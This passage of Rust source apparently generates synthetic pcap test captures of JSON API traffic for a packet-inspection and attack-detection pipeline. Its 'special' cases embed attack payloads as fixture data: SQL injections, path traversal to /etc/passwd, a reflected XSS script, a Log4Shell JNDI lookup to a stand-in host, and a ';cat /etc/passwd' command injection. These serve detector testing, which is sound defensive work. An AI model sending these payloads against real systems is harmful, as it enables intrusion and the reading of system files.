                        with_auth(&[]),
                        b"",
                    ),
                    resp,
                )
            }
            _ => (
                req(
                    "PUT",
                    &format!("/api/v1/users/{id}"),
                    with_auth(&[("Content-Type", "application/json")]),
                    format!(r#"{{"name":"user{id}","role":"member"}}"#).as_bytes(),
                ),
                http_response("200 OK", &json_headers(), user_json(id).as_bytes()),
            ),
        }
    }

    /// Attack-like and vulnerability-revealing transactions, one per special connection.
    fn special(n: u32) -> Vec<(Vec<u8>, Vec<u8>)> {
        let ua = [("User-Agent", "sqlmap/1.8.4#stable (https://sqlmap.org)")];
        let html = [("Content-Type", "text/html; charset=utf-8")];
        match n {
            0 => vec![(
                http_request("GET", "/api/v1/products?id=1'%20OR%20'1'='1", &ua, b""),
                http_response("200 OK", &json_headers(), br#"[{"id":1,"name":"bolt"}]"#),
            )],
            1 => vec![(
                http_request("GET", "/static/../../etc/passwd", &[("User-Agent", "curl/8.5.0")], b""),
                http_response("404 Not Found", &html, b"<html><body>Not Found</body></html>"),
            )],
            2 => vec![(
                http_request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", &[("User-Agent", UA[0])], b""),
                http_response(
                    "200 OK",
                    &html,
                    b"<html><body>Results for <script>alert(1)</script></body></html>",
                ),
            )],
            3 => vec![(
                http_request(
                    "POST",
                    "/api/v1/login",
                    &[("User-Agent", "python-requests/2.31.0"), ("Content-Type", "application/json"), ("X-Forwarded-For", "203.0.113.9")],
                    br#"{"user":"admin' --","password":"x"}"#,
                ),
                http_response(
                    "500 Internal Server Error",
                    &[("Content-Type", "text/plain"), ("Server", "Apache/2.2.8 (Ubuntu) PHP/5.2.4")],
                    b"java.sql.SQLException: syntax error near \"--\"\n\tat com.example.db.Query.run(Query.java:42)\n\tat com.example.api.Login.handle(Login.java:17)\n",
                ),
            )],
            4 => vec![(
                http_request(
                    "GET",
                    "/api/v1/health",
                    &[("User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"), ("X-Forwarded-For", "198.51.100.7")],
                    b"",
                ),
                http_response("200 OK", &json_headers(), br#"{"status":"ok"}"#),
            )],
            _ => vec![(
                http_request("GET", "/cgi-bin/status?host=127.0.0.1;cat%20/etc/passwd", &[("User-Agent", "curl/8.5.0")], b""),
                http_response("403 Forbidden", &html, b"<html><body>Forbidden</body></html>"),
            )],
        }
    }

    pub fn case() -> Case {
        let mut frames: Vec<(Ts, Vec<u8>)> = vec![];
        let mut requests = 0;
        let conns = 50u32;
        for c in 0..conns {
            let client = format!("10.1.{}.{}:{}", c % 3, 20 + c, 40000 + c * 17);
            let server = if c % 5 == 4 { "10.1.0.10:8080" } else { SERVER };
            // Connections start 40 ms apart and overlap (segments 1 ms apart,
            // a fixed odd microsecond offset so no two frames share a time).
            let t0 = Ts::from_micros(EPOCH_2024_05_01, c * 40_000 + c * 7);
            let mut conv = TcpConversation::new(&client, server)
                .isn(1_000_000 + c * 100_003, 2_000_000 + c * 200_003)
                .start(t0);
            let pairs = if c % 8 == 3 {
                special(c / 8)
            } else {
                (0..1 + c % 3).map(|k| transaction(c, k)).collect()
            };
            for (rq, rs) in pairs {
                conv = conv.request(&rq).response(&rs);
                requests += 1;
            }
            let vxlan = c % 2 == 0;
            frames.extend(conv.frames(|s| {
                if vxlan {
                    outer()
                        .udp(49152 + (c as u16 % 16), 4789)
                        .udp_zero_checksum()
                        .vxlan(7 + c % 2 * 10)
                        .append(ethernet_for(s.dir))
                } else {
                    ethernet_for(s.dir)
                }
            }));
        }
        frames.sort_by_key(|(ts, _)| *ts);
        let stages = format!(
            "- `tw-capture`: {} `frame` records.\n\
             - `tw-decap`: as many `packet` records; connections with an even number arrive over \
             VXLAN (VNI 7) from 10.0.0.5, the others as plain Ethernet.\n\
             - Later stages: 50 connections, {requests} HTTP transactions; `tw-detect` should flag \
             the SQL injections (`id=1' OR '1'='1` with sqlmap's User-Agent, the `admin' --` \
             login), the path traversal (`/static/../../etc/passwd`), the reflected XSS \
             (`<script>alert(1)</script>`), the Log4Shell probe in User-Agent and the command \
             injection (`;cat /etc/passwd`); passive findings: a Java stack trace and an old \
             `Apache/2.2.8` banner in the 500 response, e-mail addresses in user JSON.",
            frames.len()
        );
        Case {
            name: "sample",
            file: "input.pcap",
            readme: readme(
                "sample",
                "The bundled sample capture that the README's first command runs on: a small, \
                 realistic mix of a JSON API (users, orders, products, audit log) seen through \
                 a mirror, half of it VXLAN-encapsulated, with a few attacks mixed in. \
                 Responses include gzip (`Content-Encoding`) and chunked transfer encoding.",
                "50 TCP connections from clients 10.1.{0,1,2}.20-69 to 10.1.0.9:80 and \
                 10.1.0.10:8080, 1-3 keep-alive transactions each, connections starting 40 ms \
                 apart and overlapping. Every eighth connection (3, 11, 19, ...) carries one \
                 attack-like request instead.",
                "input.pcap",
                &stages,
            ),
            bytes: pcap_bytes(LinkType::Ethernet, false, &frames),
            http_requests: Some(requests),
            tshark_args: &[],
        }
    }
}

/// Writes every case under `root`.
pub fn generate(root: &Path) -> anyhow::Result<()> {
    for case in cases() {
        let dir = root.join(case.name);
        std::fs::create_dir_all(&dir)?;
        std::fs::write(dir.join(case.file), &case.bytes)?;
        std::fs::write(dir.join("README.md"), &case.readme)?;
    }
    Ok(())
}

#[allow(dead_code)]
fn main() -> anyhow::Result<()> {
    let root = std::env::args().nth(1).unwrap_or_else(|| "testdata".into());
    generate(Path::new(&root))?;
    for case in cases() {
        eprintln!("{:<18} {:>7} bytes", case.name, case.bytes.len());
    }
    Ok(())
}
